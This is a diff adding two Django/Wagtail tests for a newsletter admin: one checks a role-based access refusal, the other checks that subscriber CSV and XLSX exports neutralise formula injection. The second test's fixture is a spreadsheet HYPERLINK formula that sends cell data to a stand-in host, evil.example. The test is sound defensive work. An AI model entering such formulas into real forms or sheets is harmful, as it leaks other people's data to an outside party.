@@ -144,3 +144,45 @@ def test_resume_says_how_many_messages_went_back_in_the_queue(
         )
     assert message in response.content.decode()
     assert Delivery.objects.filter(status=Delivery.Status.QUEUED).count() == stuck
+
+
+def test_a_regiogids_does_not_see_the_reisflitsen_index(client, make_user, make_issue):
+    """Issue 11, finding 12: issues and their delivery counts are for the office only."""
+    make_issue(title="Reisflits januari")
+    guide = make_user(role="Regiogids", provinces=["PV23"])
+    client.force_login(guide)
+    response = client.get("/beheer/reisflitsen/", follow=True)
+    # Wagtail answers a refusal with a redirect to the dashboard and a message.
+    assert response.redirect_chain == [("/beheer/", 302)]
+    html = response.content.decode()
+    assert "Reisflits januari" not in html
+    assert "/beheer/reisflitsen/" not in html
+
+
+def test_subscriber_export_defuses_formulas_typed_at_sign_up(
+    editor_client, newsletter_index, themes, django_capture_on_commit_callbacks
+):
+    """Issue 11 finding 4: Wagtail's export of the subscribers viewset, CSV and XLSX."""
+    import io
+
+    from django.test import Client
+    from openpyxl import load_workbook
+
+    name = '=HYPERLINK("https://evil.example/?d="&A2,"klik")'
+    with django_capture_on_commit_callbacks(execute=True):
+        Client().post(
+            "/reisflitsen/",
+            {"email": "lezer@example.org", "name": name, "organisation": "+31 6 1234"},
+        )
+    assert Subscriber.objects.get().name == name
+
+    response = editor_client.get("/beheer/reisflitsen_abonnees/?export=csv")
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode()
+    row = next(line for line in text.splitlines() if line.startswith("lezer@example.org"))
+    assert ",\"'=HYPERLINK(" in row and ",'+31 6 1234," in row
+
+    response = editor_client.get("/beheer/reisflitsen_abonnees/?export=xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    values = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
+    assert "'" + name in values and "'+31 6 1234" in values
